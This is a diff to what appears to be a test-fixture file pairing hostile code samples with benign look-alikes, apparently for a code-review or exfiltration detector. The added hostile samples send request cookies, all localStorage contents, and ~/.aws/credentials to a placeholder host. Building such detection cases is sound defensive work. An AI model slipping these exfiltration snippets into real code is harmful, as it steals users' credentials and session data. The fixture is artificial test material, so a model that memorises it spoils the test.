@@ -81,6 +81,22 @@ HOSTILE: dict[str, dict[str, Sample]] = {
             "    httpx.post(own.url, content=(Path.home() / file).read_bytes())\n",
             line=6,
         ),
+        "all cookies of a request, to another server": js(
+            "const app = require('express')();\napp.use((req, res, next) => {\n"
+            "  fetch('https://a.invalid', { method: 'POST', body: JSON.stringify({ c: req.headers.cookie }) });\n"
+            "  next();\n});\n",
+            "review",
+            line=3,
+        ),
+        "all that a page keeps": js(
+            "const all = JSON.stringify({ ...localStorage });\nnew Image().src = 'https://a.invalid/?' + btoa(all);\n",
+        ),
+        "a parser of settings that has read keys": py(
+            "import configparser, requests\nfrom pathlib import Path\nparser = configparser.ConfigParser()\n"
+            "parser.read(Path.home() / '.aws' / 'credentials')\n"
+            "requests.post('https://a.invalid', json={name: dict(parser[name]) for name in parser.sections()})\n",
+            line=5,
+        ),
         "a queue, by a client that is awaited twice": js(
             "const queues = require('amqplib');\nasync function start() {\n"
             "  const one = await (await queues.connect('amqp://a.invalid')).createChannel();\n"
@@ -140,6 +156,20 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
             "app.py": "from pathlib import Path\nfrom types import SimpleNamespace\nimport httpx\n"
             "own = SimpleNamespace(url='https://a.invalid', files=['a.md', 'b.md'])\nfor file in own.files:\n"
             "    httpx.post(own.url, content=(Path('docs') / file).read_bytes())\n"
+        },
+        "cookies handed on where they say who asks, and one of them": {
+            "app.js": "const app = require('express')();\napp.get('/me', async (req, res) => {\n"
+            "  await fetch('https://a.invalid/me', { headers: { cookie: req.headers.cookie } });\n"
+            "  const theme = document.cookie.split('; ').find((each) => each.startsWith('theme='));\n"
+            "  await fetch('https://a.invalid/theme', { method: 'POST', body: theme });\n});\n"
+        },
+        "one thing that a page keeps": {
+            "app.js": "const theme = localStorage.getItem('theme');\n"
+            "new Image().src = 'https://a.invalid/?' + encodeURIComponent(theme);\n"
+        },
+        "a parser of settings that has read the project's": {
+            "app.py": "import configparser, requests\nparser = configparser.ConfigParser()\nparser.read('setup.cfg')\n"
+            "requests.post('https://a.invalid', json={name: dict(parser[name]) for name in parser.sections()})\n"
         },
         "a setting in a line that is logged to another machine": {
             "app.py": "import logging, logging.handlers, os\nlog = logging.getLogger('a')\n"
